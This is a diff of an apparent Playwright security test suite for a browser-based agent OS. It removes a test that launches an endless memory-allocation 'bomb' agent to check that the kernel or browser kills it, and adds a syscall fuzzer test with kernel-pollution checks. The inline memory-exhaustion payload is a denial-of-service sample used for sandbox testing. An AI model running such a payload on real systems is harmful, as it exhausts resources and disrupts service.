-    (p) => window.agentos!.ps().then((ps) => ps.find((x) => x.pid === p)!.hostTab),
-    canary,
-  );
-  const canaryBefore = await desk.evaluate((p) => window.agentos!.output(p).then((o) => o.length), canary);
-  const pid = await desk.evaluate(() =>
-    window.agentos!.spawn('bomb', undefined, {
-      source:
-        'export default async function main() { const a = []; for (let n = 0; ; n++) a.push(new Array(4e6).fill(n + 0.5)); }',
-    }),
-  );
-  const bombTab = await desk.evaluate(
-    (p) => window.agentos!.ps().then((ps) => ps.find((x) => x.pid === p)!.hostTab),
-    pid,
-  );
-  expect(bombTab).not.toBe(canaryTab);
-  const exit = await desk.evaluate((p) => window.agentos!.wait(p, 90_000), pid);
-  // Two protections race, and either one winning is the attack blocked: Chromium ends the whole
-  // renderer when a worker's heap overflows (the host tab is gone: 129), or the kernel's heartbeat
-  // finds the allocating loop unresponsive first and kills it (137). Which wins depends on the machine.
-  if (exit.exitCode === 129) {
-    expect(exit.exitReason).toMatch(/host tab/);
-  } else {
-    expect(exit.exitCode, `unexpected exit: ${exit.exitReason}`).toBe(137);
-    expect(exit.exitReason).toMatch(/heartbeat/);
-  }
-  await expect
-    .poll(() => desk.evaluate((p) => window.agentos!.output(p).then((o) => o.length), canary))
-    .toBeGreaterThan(canaryBefore);
-  results['memory bomb'] = { blocked: true, p99Ms: 0, detail: null };
+    const agent = await s.desk.evaluate(async (src) => {
+      const k = window.agentos!;
+      const pid = await k.spawn('fuzzer', undefined, { source: src });
+      const exit = await k.wait(pid, 30_000);
+      return {
+        exit,
+        out: JSON.parse(await k.output(pid)) as { n: number; ok: number; codes: Record<string, number> },
+      };
+    }, FUZZER);
+    expect(agent.exit.exitCode).toBe(0);
+    expect(agent.out.n).toBe(2000);
+    for (const c of Object.keys(agent.out.codes))
+      expect(['EINVAL', 'ENOSYS', 'ESRCH', 'EPERM', 'E2BIG', 'ENOENT', 'EAGAIN', 'EDQUOT']).toContain(c);
+    expect(await kernelPollution(s.desk)).toEqual({ kernelRealm: true, polluted: [] });
+    // The kernel still serves the desktop and the canary.
+    expect(await s.desk.evaluate(() => window.agentos!.call('nop', {}))).toBeNull();
+    await expect.poll(() => canaryOutput(s)).toBeGreaterThan(canaryBefore);
+  });
 });
 
 test('nothing reached the exfiltration server during the suite', () => {
